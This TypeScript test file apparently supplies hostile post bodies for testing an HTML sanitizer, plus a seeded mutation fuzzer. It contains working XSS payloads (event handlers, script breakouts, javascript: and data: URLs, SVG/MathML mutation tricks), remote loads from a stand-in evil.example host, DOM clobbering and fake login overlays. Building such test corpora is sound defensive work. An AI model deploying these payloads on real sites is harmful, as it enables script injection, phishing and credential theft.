/**
 * Post bodies that try to run `A()`, to restyle the page, to leave their container or to send data away, grouped by
 * method.
 */
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'ontransitionend',
  'ontoggle',
  'onbeforeinput',
  'onpaste',
  'onscroll',
  'onwheel',
  'onauxclick',
  'onbeforematch',
  'oncontentvisibilityautostatechange',
];

const elements = [
  '<img src=x onerror=A()>',
  '<img src=x onerror="A()" alt="그림">',
  '<img src="/favicon.svg" onload=A()>',
  '<img/src=x/onerror=A()>',
  '<img src=x onerror\n=\nA()>',
  '<img src=x:x onerror=&#65;()>',
  '<img src onerror=A()>',
  '<img srcset="x 1x" onerror=A()>',
  '<img src=x onerror=A() loading=eager fetchpriority=high>',
  '<image src=x onerror=A()>',
  '<picture><source srcset=x onerror=A()><img src=x onerror=A()></picture>',
  '<video src=x onerror=A()></video>',
  '<video><source onerror=A()></video>',
  '<audio src=x onerror=A()></audio>',
  '<body onload=A()>',
  '<body onpageshow=A()>',
  '<html onmousemove=A()>',
  '<frameset onload=A()>',
  '<details open ontoggle=A()><summary>가</summary></details>',
  '<input autofocus onfocus=A()>',
  '<select autofocus onfocus=A()></select>',
  '<textarea autofocus onfocus=A()></textarea>',
  '<keygen autofocus onfocus=A()>',
  '<button autofocus onfocus=A()>가</button>',
  '<a href=# autofocus tabindex=0 onfocus=A()>가</a>',
  '<div contenteditable autofocus onfocus=A()>가</div>',
  '<marquee onstart=A()>가</marquee>',
  '<object data=x onerror=A()></object>',
  '<embed src=x onload=A()>',
  '<link rel=stylesheet href=/favicon.svg onload=A()>',
  '<style onload=A()></style>',
  '<dialog open onclose=A()>가</dialog>',
  '<div popover id=p onbeforetoggle=A()>가</div><button popovertarget=p>나</button>',
  '<x-y onclick=A()>가</x-y>',
  '<p is=x-y onclick=A()>가</p>',
];

const scripts = [
  '<script>A()</script>',
  '<SCRIPT>A()</SCRIPT>',
  '<scr<script>ipt>A()</scr</script>ipt>',
  '<script/x>A()</script>',
  '<script\t>A()</script >',
  '<script src="data:text/javascript,A()"></script>',
  '<script type=module>A()</script>',
  '<script>/*<p>*/A()//</p></script>',
  '<script><!--\nA()//--></script>',
  '<<script>A()<</script>',
  '"><script>A()</script>',
  "'><script>A()</script>",
  '</div></article></main><script>A()</script>',
  '<noscript><p title="</noscript><script>A()</script>">가</p></noscript>',
  '<template><script>A()</script></template>',
  '<template shadowrootmode=open><script>A()</script></template>',
  '<textarea></textarea><script>A()</script>',
  '<title></title><script>A()</script>',
  '<xmp><script>A()</script></xmp>',
  '<plaintext><script>A()</script>',
  '<iframe srcdoc="<script>parent.A()</script>"></iframe>',
  '<iframe src="javascript:parent.A()"></iframe>',
  '<iframe src="data:text/html,<script>parent.A()</script>"></iframe>',
  '<frame src="javascript:A()">',
  '<object data="javascript:A()"></object>',
  '<object type=text/html data="data:text/html,<script>A()</script>"></object>',
  '<embed src="javascript:A()">',
  '<applet code=x></applet><script>A()</script>',
  '<base href="https://evil.example/"><script src=x.js></script>',
  '<meta http-equiv=refresh content="0;url=javascript:A()">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=import href="data:text/html,<script>A()</script>">',
  '<link rel=modulepreload href="https://evil.example/x.js">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<import implementation="#x"><script>A()</script>',
];

const addresses = [
  'javascript:A()',
  'JaVaScRiPt:A()',
  ' javascript:A()',
  '\u0001javascript:A()',
  'java\tscript:A()',
  'java\nscript:A()',
  'java\0script:A()',
  'java&#10;script:A()',
  'java&Tab;script:A()',
  'javascript&colon;A()',
  '&#106;avascript:A()',
  '&#x6A;avascript:A()',
  'javascript://%0aA()',
  'jav\u00adascript:A()',
  'vbscript:A()',
  'livescript:A()',
  'data:text/html,<script>A()</script>',
  'data:text/html;base64,PHNjcmlwdD5BKCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="A()"/>',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'file:///etc/passwd',
  'view-source:javascript:A()',
  'feed:javascript:A()',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
].map((address, index) => (index % 3 === 2 ? `<img src='${address}' alt=''>` : `<a href='${address}'>가</a>`));

const moreAddresses = [
  '<a xlink:href="javascript:A()">가</a>',
  '<a href=# ping="https://evil.example/">가</a>',
  '<a href="/contact" target=_top download onclick=A()>가</a>',
  '<a href="javascript:A()" href="/contact">가</a>',
  '<area shape=default href="javascript:A()">',
  '<map name=x><area href="javascript:A()"></map><img usemap=#x src=x>',
  '<form action="javascript:A()"><button>가</button></form>',
  '<form><button formaction="javascript:A()">가</button></form>',
  '<isindex action="javascript:A()" type=submit>',
  '<input type=image src=x formaction="javascript:A()">',
  '<img lowsrc="javascript:A()" dynsrc="javascript:A()">',
  '<table background="javascript:A()"><tr><td background="javascript:A()">가</td></tr></table>',
  '<blockquote cite="javascript:A()">가</blockquote>',
  '<img longdesc="javascript:A()" src=x>',
  '<video poster="javascript:A()"></video>',
  '<img src="x`onerror=A()">',
  '<img src="` `<script>A()</script>"` `>',
];

const foreign = [
  '<svg onload=A()>',
  '<svg/onload=A()>',
  '<svg><script>A()</script></svg>',
  '<svg><script href="data:text/javascript,A()"/></svg>',
  '<svg><animate onbegin=A() attributeName=x dur=1s></svg>',
  '<svg><a><animate attributeName=href values="javascript:A()"/><text y=20>가</text></a></svg>',
  '<svg><set attributeName=onmouseover to=A()></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=A() />#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.A()</script>"></foreignObject></svg>',
  '<svg><style><img src=x onerror=A()></style></svg>',
  '<svg><title><img src=x onerror=A()></title></svg>',
  '<svg><desc><![CDATA[</desc><img src=x onerror=A()>]]></svg>',
  '<svg></p><style><a title="</style><img src=x onerror=A()>">',
  '<math><mi xlink:href="javascript:A()">가</mi></math>',
  '<math href="javascript:A()">가</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=A()&gt;">',
  '<math><mtext><mglyph><svg><mtext><textarea><path title="</textarea><img src=x onerror=A()>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=A()></style></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=A()>',
  '<svg><noscript><!--</noscript><img src=x onerror=A()>--></svg>',
  '<table><td><math><mtext><table><mglyph><style><math><img src=x onerror=A()>',
  '<select><template><img src=x onerror=A()></template></select>',
  '<svg><![CDATA[<img src=x onerror=A()>]]></svg>',
  '<!--><img src=x onerror=A()>-->',
  '<!--!><img src=x onerror=A()>-->',
  '<!-- --!><img src=x onerror=A()>',
  '<?xml version="1.0"?><img src=x onerror=A()>',
  '<![endif]--><img src=x onerror=A()>',
  '<!--[if true]><script>A()</script><![endif]-->',
  `${'<div>'.repeat(600)}<img src=x onerror=A()>`,
  `${'<svg>'.repeat(300)}<script>A()</script>`,
  `${'<b><p>'.repeat(200)}<img src=x onerror=A()>`,
];

const dress = [
  '<div style="position:fixed;inset:0;background:#fff;z-index:99999">가</div>',
  '<p style="position:absolute;top:-900px;left:0;width:200vw;height:200vh">가</p>',
  '<style>body{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{position:fixed!important}</style><p>가</p>',
  '<p style="background:url(javascript:A())">가</p>',
  '<p style="width:expression(A())">가</p>',
  '<p style="-moz-binding:url(https://evil.example/x)">가</p>',
  '<p style="margin:-9999px">가</p>',
  '<p style="font-size:9999px">가</p>',
  '<p style="transform:scale(99)">가</p>',
  '<font size=7 color=white>가</font>',
  '<center><big><big>가</big></big></center>',
  '<p class="modal overlay" id="main">가</p>',
  '<a id=alert name=alert>가</a><a id=document>나</a>',
  '<img name=getElementById><img name=body><form name=location></form>',
  '<form id=x><input name=attributes><input name=parentNode></form>',
  '<table width=99999 height=99999><tr><td width=99999 height=99999>가</td></tr></table>',
  '<img src=x width=99999 height=99999 alt=가>',
  '<hr width=99999 size=99999>',
  '<td colspan=99999 rowspan=99999>가</td>',
  '<pre>가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가가</pre>'.repeat(
    3,
  ),
  `<p>${'가'.repeat(5000)}</p>`,
  `<p>${'Z\u0338\u0321\u031b'.repeat(300)}</p>`,
  '<p dir=rtl>\u202eعربى</p>',
  '</div></div></article></main></body></html><h1>가짜 화면</h1>',
  '<h1>자료실</h1><nav><a href="https://evil.example/">로그인</a></nav>',
  '<main><header>가짜 머리</header></main>',
  '<div role=alertdialog aria-modal=true aria-label="로그인">비밀번호</div>',
  '<input type=password name=password placeholder="비밀번호"><button>로그인</button>',
  '<button type=submit form=search>가</button>',
  '<label for=search>가</label><output>나</output><progress></progress>',
  '<slot name=x></slot><canvas></canvas><object></object>',
  '<a href="https://evil.example/" target=_self rel=opener>로그인하러 가기</a>',
  '<div data-react-aria-top-layer tabindex=1 accesskey=a inert hidden>가</div>',
];

/** At least 150 hostile post bodies. */
export const attacks: readonly string[] = [
  ...handlers.map((handler) => `<p ${handler}=A() tabindex=0>가</p>`),
  ...elements,
  ...scripts,
  ...addresses,
  ...moreAddresses,
  ...foreign,
  ...dress,
];

/** Returns a generator of numbers from 0 to 1 that is equal in every run (mulberry32). */
function randoms(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let value = Math.imul(state ^ (state >>> 15), 1 | state);
    value = (value + Math.imul(value ^ (value >>> 7), 61 | value)) ^ value;
    return ((value ^ (value >>> 14)) >>> 0) / 2 ** 32;
  };
}

const wrappers: readonly [string, string][] = [
  ['<table><tr><td>', ''],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<template>', '</template>'],
  ['<noscript>', '</noscript>'],
  ['<!--', '-->'],
  ['<select>', '</select>'],
  ['<textarea>', '</textarea>'],
  ['<style>', '</style>'],
  ['<a href="', '">가</a>'],
  ['<p title="', '">가</p>'],
  ['<ul><li>', '</ul>'],
];

type Change = (body: string, random: () => number) => string;

const splitAt = (body: string, random: () => number) => Math.floor(random() * body.length);
const randomItem = <T>(list: readonly T[], random: () => number): T | undefined =>
  list[Math.floor(random() * list.length)];
const inserted = (body: string, place: number, text: string) => body.slice(0, place) + text + body.slice(place);

const changes: readonly Change[] = [
  (body, random) =>
    [...body]
      .map((letter) => (random() < 0.5 ? letter.toUpperCase() : letter))
      .join('')
      .replaceAll('a()', 'A()'),
  (body, random) =>
    inserted(
      body,
      splitAt(body, random),
      randomItem(['\0', '\t', '\n', '\f', '/', ' ', '\u00a0', '\ufeff'], random) ?? '',
    ),
  (body, random) =>
    inserted(
      body,
      splitAt(body, random),
      randomItem(['<', '>', '"', "'", '`', '&', '<!--', '-->', ']]>'], random) ?? '',
    ),
  (body, random) => body.slice(0, splitAt(body, random)),
  (body, random) => body.slice(splitAt(body, random)),
  (body, random) => body.slice(0, splitAt(body, random)) + (randomItem(attacks, random) ?? ''),
  (body, random) => {
    const [before, after] = randomItem(wrappers, random) ?? ['', ''];
    return before + body + after;
  },
  (body, random) => {
    const place = splitAt(body, random);
    const letter = body.codePointAt(place) ?? 65;
    return `${body.slice(0, place)}&#x${letter.toString(16)};${body.slice(place + String.fromCodePoint(letter).length)}`;
  },
  (body, random) => body.repeat(2 + Math.floor(random() * 3)),
  (body) => body.replaceAll('<', '&lt;').replaceAll('&lt;p', '<p'),
  (body, random) => body.replace(/ /g, () => randomItem(['/', '\t', '\n', '\f', '//', ' / '], random) ?? ' '),
];

/**
 * Returns mutated copies of a body, each with one to three changes.
 * @param seed the same seed gives the same copies
 */
export function mutations(body: string, count: number, seed: number): string[] {
  const random = randoms(seed);
  return Array.from({ length: count }, () => {
    let copy = body;
    for (let left = 1 + Math.floor(random() * 3); left > 0; left -= 1)
      copy = randomItem(changes, random)?.(copy, random) ?? copy;
    // A post has at most 200,000 characters.
    return copy.slice(0, 20_000);
  });
}
